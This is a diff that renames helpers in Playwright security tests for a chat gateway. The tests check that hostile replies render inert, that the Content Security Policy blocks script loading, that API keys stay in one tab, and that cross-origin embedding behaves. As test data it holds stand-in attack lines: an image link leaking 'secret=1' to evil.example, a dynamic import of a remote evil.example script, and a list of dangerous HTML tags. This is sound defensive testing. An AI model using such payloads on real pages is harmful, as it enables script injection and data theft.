@@ -10,63 +10,63 @@ from hashlib import sha256
 import pytest
 from playwright.sync_api import FrameLocator, Page, expect
 
-from tests.browser.chat_actions import answered, say, text_of
-from tests.browser.chromium import Guard
-from tests.browser.conftest import Start
+from tests.browser.chat_actions import last_complete_reply, send_message, text_of
+from tests.browser.chromium import PageGuard
+from tests.browser.conftest import StartGateway
 from tests.browser.replies import HOSTILE
-from tests.browser.site import OtherSite, Site, serving
+from tests.browser.site import EmbeddingSite, GatewaySite, serve
 from tests.fakes.openai_server import Say
 
 DANGEROUS = "script, style, link, iframe, object, embed, svg, math, img, video, form, input, base, meta, [style]"
-IN_REPLIES = ", ".join(f".text {name.strip()}" for name in DANGEROUS.split(","))
-HANDLERS = """() => [...document.querySelectorAll('.text *')]
+DANGEROUS_IN_TEXT = ", ".join(f".text {name.strip()}" for name in DANGEROUS.split(","))
+HANDLER_ATTRIBUTES = """() => [...document.querySelectorAll('.text *')]
     .flatMap((node) => [...node.attributes].map((attribute) => attribute.name))
     .filter((name) => name.startsWith('on') || name.startsWith('src'))"""
-ADDRESSES = "() => [...document.querySelectorAll('.text a')].map((link) => link.getAttribute('href'))"
+LINK_TARGETS = "() => [...document.querySelectorAll('.text a')].map((link) => link.getAttribute('href'))"
 
 
-TRY = """() => new Promise((resolve) => {{
+FIRST_VIOLATION = """() => new Promise((resolve) => {{
     document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {{once: true}});
     try {{ {attempt} }} catch {{ }}
 }})"""
 
 
-def everything_is_dead(page: Page) -> None:
+def assert_inert(page: Page) -> None:
     """All text is inert. The guard checks that no script ran and nothing was fetched."""
-    expect(page.locator(IN_REPLIES)).to_have_count(0)
-    assert page.evaluate(HANDLERS) == []
-    assert [address for address in page.evaluate(ADDRESSES) if not address.startswith("https://")] == []
+    expect(page.locator(DANGEROUS_IN_TEXT)).to_have_count(0)
+    assert page.evaluate(HANDLER_ATTRIBUTES) == []
+    assert [address for address in page.evaluate(LINK_TARGETS) if not address.startswith("https://")] == []
     expect(page.get_by_role("textbox", name="Message")).to_be_visible()
 
 
-def test_a_reply_is_inert_while_streaming_and_when_complete(page: Page, site: Site) -> None:
+def test_a_reply_is_inert_while_streaming_and_when_complete(page: Page, site: GatewaySite) -> None:
     site.fake.script(Say(HOSTILE, chunks=60))
-    say(page, "Attack me")
-    expect(text_of(answered(page))).to_contain_text("The end.")
-    everything_is_dead(page)
+    send_message(page, "Attack me")
+    expect(text_of(last_complete_reply(page))).to_contain_text("The end.")
+    assert_inert(page)
     page.reload()
-    expect(text_of(answered(page))).to_contain_text("The end.")
-    everything_is_dead(page)
+    expect(text_of(last_complete_reply(page))).to_contain_text("The end.")
+    assert_inert(page)
 
 
 def test_a_message_is_inert_and_shown_as_it_was_written(page: Page) -> None:
-    say(page, HOSTILE)
-    answered(page)
+    send_message(page, HOSTILE)
+    last_complete_reply(page)
     assert page.locator(".said .text").text_content() == HOSTILE.strip()
-    everything_is_dead(page)
+    assert_inert(page)
 
 
-def test_an_image_is_a_link_and_a_link_says_where_it_leads(page: Page, site: Site) -> None:
+def test_an_image_is_a_link_and_a_link_says_where_it_leads(page: Page, site: GatewaySite) -> None:
     site.fake.script("![A cat](https://evil.example/cat.png?secret=1) and [your bank](https://evil.example/)")
-    say(page, "Show me")
-    reply = text_of(answered(page))
+    send_message(page, "Show me")
+    reply = text_of(last_complete_reply(page))
     expect(reply.get_by_role("link", name="Image: A cat")).to_have_attribute(
         "title", "https://evil.example/cat.png?secret=1"
     )
     expect(reply.get_by_role("link", name="your bank")).to_have_attribute("title", "https://evil.example/")
 
 
-ATTEMPTS = {
+VIOLATIONS = {
     "document.body.innerHTML = '<b>x</b>'": "require-trusted-types-for",
     "trustedTypes.createPolicy('mine', {})": "trusted-types",
     "import('https://evil.example/x.js').catch(() => {})": "script-src-elem",
@@ -77,24 +77,24 @@ ATTEMPTS = {
 }
 
 
-def test_the_content_security_policy_blocks_active_content(page: Page, guard: Guard) -> None:
+def test_the_content_security_policy_blocks_active_content(page: Page, guard: PageGuard) -> None:
     expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
-    refused = {attempt: page.evaluate(TRY.format(attempt=attempt)) for attempt in ATTEMPTS}
-    assert refused == ATTEMPTS
-    guard.wrongs.clear()  # the browser logs the violations to the console
+    refused = {attempt: page.evaluate(FIRST_VIOLATION.format(attempt=attempt)) for attempt in VIOLATIONS}
+    assert refused == VIOLATIONS
+    guard.violations.clear()  # the browser logs the violations to the console
 
 
 # ---------------------------------------------------------------- API key
 
 
 @pytest.fixture
-def locked(start: Start, empty: Page) -> Page:
+def locked(start: StartGateway, empty: Page) -> Page:
     """The chat of a gateway that requires a key."""
     empty.goto(start(GATEWAY_API_KEYS="key-one, key-two").url)
     return empty
 
 
-def give(page: Page, key: str) -> None:
+def enter_key(page: Page, key: str) -> None:
     page.get_by_label("API key").fill(key)
     page.get_by_label("API key").press("Enter")
 
@@ -106,14 +106,14 @@ def test_a_key_is_asked_for_and_kept_in_this_tab_alone(locked: Page) -> None:
     expect(dialog).to_contain_text("It stays in this tab until you close it")
     locked.keyboard.press("Escape")
     expect(dialog).to_be_visible()
-    give(locked, "wrong")
+    enter_key(locked, "wrong")
     expect(locked.get_by_role("alert")).to_have_text("This key is not valid. Check that it is complete.")
-    give(locked, "key-one")
+    enter_key(locked, "key-one")
     expect(dialog).to_be_hidden()
-    say(locked, "Hello")
-    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+    send_message(locked, "Hello")
+    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")
     locked.reload()
-    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")
     assert locked.evaluate("JSON.stringify(localStorage)").count("key-one") == 0
     assert [address for address in addresses if "key-one" in address] == []
     other = locked.context.new_page()
@@ -123,11 +123,11 @@ def test_a_key_is_asked_for_and_kept_in_this_tab_alone(locked: Page) -> None:
 
 
 def test_another_key_cannot_see_the_thread(locked: Page) -> None:
-    give(locked, "key-one")
-    say(locked, "A secret of the first key")
-    answered(locked)
+    enter_key(locked, "key-one")
+    send_message(locked, "A secret of the first key")
+    last_complete_reply(locked)
     locked.get_by_role("button", name="Change key").click()
-    give(locked, "key-two")
+    enter_key(locked, "key-two")
     expect(locked.locator("#notice")).to_contain_text("no longer there")
     expect(locked.locator(".said")).to_have_count(0)
 
@@ -135,17 +135,19 @@ def test_another_key_cannot_see_the_thread(locked: Page) -> None:
 def test_a_key_that_is_no_longer_valid_is_asked_for_again_and_the_message_is_not_lost(locked: Page) -> None:
     locked.evaluate("sessionStorage.setItem('chat.key', 'old')")
     locked.reload()
-    say(locked, "Hello")
+    send_message(locked, "Hello")
     expect(locked.get_by_role("alert")).to_have_text("This key is no longer valid.")
-    give(locked, "key-two")
-    expect(text_of(answered(locked))).to_have_text("You said: Hello")
+    enter_key(locked, "key-two")
+    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")
 
 
 # ---------------------------------------------------------------- on another site
 
 
-CSS = "* { color: red !important; } button, div { width: 3px !important; } div:empty { display: none !important; }"
-HOST = """<!doctype html><title>A shop</title>
+HOSTILE_CSS = (
+    "* { color: red !important; } button, div { width: 3px !important; } div:empty { display: none !important; }"
+)
+HOST_PAGE = """<!doctype html><title>A shop</title>
 <meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src {gateway}; frame-src {gateway};
   style-src 'sha256-{style}'">
 <style>{css}</style>
@@ -155,37 +157,37 @@ CONTENT_OF_FRAME = "() => document.body.lastElementChild.shadowRoot.querySelecto
 
 
 @dataclass(frozen=True)
-class Shop:
+class ShopSite:
     """A third-party site, also reachable under another host name, which is another origin."""
 
-    site: OtherSite
+    site: EmbeddingSite
     address: str
 
     @property
-    def alias(self) -> str:
+    def other_origin(self) -> str:
         return self.address.replace("127.0.0.1", "localhost")
 
 
 @pytest.fixture
-def shop() -> Iterator[Shop]:
-    site = OtherSite()
-    with serving(site) as address:
-        yield Shop(site, address)
+def shop() -> Iterator[ShopSite]:
+    site = EmbeddingSite()
+    with serve(site) as address:
+        yield ShopSite(site, address)
 
 
 @pytest.fixture
-def visitor(shop: Shop, start: Start, empty: Page) -> Page:
+def visitor(shop: ShopSite, start: StartGateway, empty: Page) -> Page:
     """A page of a visitor of the shop, which embeds a gateway that allows it."""
-    digest = b64encode(sha256(CSS.encode()).digest()).decode()
-    shop.site.html = HOST.format(gateway=start(CORS_ORIGINS=shop.address).url, css=CSS, style=digest)
+    digest = b64encode(sha256(HOSTILE_CSS.encode()).digest()).decode()
+    shop.site.html = HOST_PAGE.format(gateway=start(CORS_ORIGINS=shop.address).url, css=HOSTILE_CSS, style=digest)
     return empty
 
 
-def inside(page: Page) -> FrameLocator:
+def chat_frame(page: Page) -> FrameLocator:
     return page.frame_locator("iframe[title='Ask us']")
 
 
-def test_one_script_tag_puts_a_chat_on_a_site_that_is_allowed(shop: Shop, visitor: Page) -> None:
+def test_one_script_tag_puts_a_chat_on_a_site_that_is_allowed(shop: ShopSite, visitor: Page) -> None:
     visitor.goto(shop.address)
     launch = visitor.get_by_role("button", name="Ask us")
     expect(launch).to_have_css("width", "56px")
@@ -194,27 +196,27 @@ def test_one_script_tag_puts_a_chat_on_a_site_that_is_allowed(shop: Shop, visito
     assert visitor.frames[1:] == []
     launch.click()
     expect(visitor.get_by_role("dialog", name="Ask us")).to_be_visible()
-    inside(visitor).get_by_role("textbox", name="Message").fill("Hello")
-    inside(visitor).get_by_role("button", name="Send").click()
-    expect(inside(visitor).locator(".reply .text")).to_have_text("You said: Hello")
+    chat_frame(visitor).get_by_role("textbox", name="Message").fill("Hello")
+    chat_frame(visitor).get_by_role("button", name="Send").click()
+    expect(chat_frame(visitor).locator(".reply .text")).to_have_text("You said: Hello")
     assert visitor.evaluate(CONTENT_OF_FRAME) is None
     assert visitor.context.cookies() == []
     visitor.reload()
     visitor.get_by_role("button", name="Ask us").click()
-    expect(inside(visitor).locator(".reply .text")).to_have_text("You said: Hello")
+    expect(chat_frame(visitor).locator(".reply .text")).to_have_text("You said: Hello")
 
 
-def test_a_site_that_is_not_allowed_gets_no_page(shop: Shop, visitor: Page, guard: Guard) -> None:
-    visitor.goto(shop.alias)
+def test_a_site_that_is_not_allowed_gets_no_page(shop: ShopSite, visitor: Page, guard: PageGuard) -> None:
+    visitor.goto(shop.other_origin)
     with visitor.expect_event("console", lambda message: "frame-ancestors" in message.text):
         visitor.get_by_role("button", name="Ask us").click()
-    expect(inside(visitor).get_by_role("textbox")).to_have_count(0)
+    expect(chat_frame(visitor).get_by_role("textbox")).to_have_count(0)
     visitor.get_by_role("button", name="Close the chat").click()
     expect(visitor.get_by_role("button", name="Ask us")).to_be_focused()
-    guard.wrongs.clear()  # the browser logs the violation to the console
+    guard.violations.clear()  # the browser logs the violation to the console
 
 
-def test_the_panel_opens_and_closes_by_the_keyboard(shop: Shop, visitor: Page) -> None:
+def test_the_panel_opens_and_closes_by_the_keyboard(shop: ShopSite, visitor: Page) -> None:
     visitor.goto(shop.address)
     launch = visitor.get_by_role("button", name="Ask us")
     launch.wait_for()
@@ -222,7 +224,7 @@ def test_the_panel_opens_and_closes_by_the_keyboard(shop: Shop, visitor: Page) -
         visitor.keyboard.press("Tab")
     expect(launch).to_be_focused()
     visitor.keyboard.press("Enter")
-    expect(inside(visitor).get_by_role("textbox", name="Message")).to_be_focused()
+    expect(chat_frame(visitor).get_by_role("textbox", name="Message")).to_be_focused()
     visitor.keyboard.press("Escape")
     expect(launch).to_be_focused()
     expect(launch).to_have_attribute("aria-expanded", "false")
